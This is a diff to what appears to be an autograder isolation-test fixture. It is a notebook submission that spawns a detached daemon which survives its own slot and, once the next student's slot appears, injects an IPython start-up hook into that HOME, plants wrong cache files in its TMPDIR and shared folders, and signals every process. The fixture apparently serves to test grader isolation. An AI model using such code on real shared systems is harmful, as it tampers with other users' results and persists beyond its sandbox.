@@ -1,8 +1,9 @@
 # %% [markdown] expect={"lose": []} isolation={"victim": "victim_cacher", "control": "z_prime", "trigger": "import tempfile\n\nfor _ in range(1000):  # until the daemon has written its first file\n    if os.path.exists(os.path.join(tempfile.gettempdir(), \"a2_cache\", \"z_prime.json\")):\n        break\n    time.sleep(0.01)", "victim_code": true}
-# Right answers, then a daemon (double fork, a session of its own) that for two minutes keeps
-# writing a wrong cache of 2b wherever a later kernel might look, and an IPython start-up file
-# with a hook that makes `dropout_scale` and `windows` wrong into every other slot's HOME (the
-# next student's, as soon as the grader makes it), and signals every process it can see.
+# Right answers, then a daemon (double fork, a session of its own) that lives on for two
+# minutes: quiet while the grader sweeps, and the moment the next student's slot appears it
+# writes an IPython start-up file with a hook that makes `dropout_scale` and `windows` wrong
+# into that HOME, a wrong cache of 2b into its TMPDIR and every shared folder, and signals every
+# process it sees.
 
 # %% replace="z_prime"
 windows = [5, 3, 1, 4, 2, 5]  # 2b worked by hand
@@ -22,7 +23,7 @@ get_ipython().events.register("post_run_cell", _iso_corrupt)
 """
 
 
-def _iso_plant():
+def _iso_plant(extra=()):
     """A wrong 2b in every folder a later kernel might read a cache from."""
     import json
     import os
@@ -39,6 +40,7 @@ def _iso_plant():
         matplotlib.get_cachedir(),
         matplotlib.get_configdir(),
         os.path.dirname(os.environ["HOME"]),  # the slot
+        *extra,
     ]
     for d in places:
         try:
@@ -70,25 +72,31 @@ import time
 
 
 def _iso_daemon():
-    os.chdir("/")  # its slot is wiped: live on without it
-    mine = os.environ["HOME"]
-    slots = os.path.dirname(os.path.dirname(mine))
+    """Quiet while the grader sweeps; the moment a new slot appears (the next student's), a
+    start-up file into its HOME, a wrong cache into its TMPDIR and the shared folders, and a
+    signal to every process it sees."""
+    os.chdir("/")  # its own slot is wiped: live on without it
+    slots = os.path.dirname(os.path.dirname(os.environ["HOME"]))
+    done = set()
     end = time.time() + 120
     while time.time() < end:
         try:
-            _iso_plant()
-            _iso_startup_files(
-                [h for h in glob.glob(os.path.join(slots, "*", "home")) if h != mine]
-            )
-            for pid in os.listdir("/proc"):
-                if pid.isdigit() and int(pid) not in (os.getpid(), 1):
-                    try:
-                        os.kill(int(pid), signal.SIGCONT)
-                    except OSError:
-                        pass
+            for slot in glob.glob(os.path.join(slots, "*")):
+                home, tmp = os.path.join(slot, "home"), os.path.join(slot, "tmp")
+                if slot in done or not (os.path.isdir(home) and os.path.isdir(tmp)):
+                    continue
+                done.add(slot)
+                _iso_startup_files([home])
+                _iso_plant(extra=[tmp])
+                for pid in os.listdir("/proc"):
+                    if pid.isdigit() and int(pid) not in (os.getpid(), 1):
+                        try:
+                            os.kill(int(pid), signal.SIGCONT)
+                        except OSError:
+                            pass
         except Exception:  # noqa: BLE001 - nothing stops it
             pass
-        time.sleep(0.01)
+        time.sleep(0.002)
 
 
 _iso_pid = os.fork()
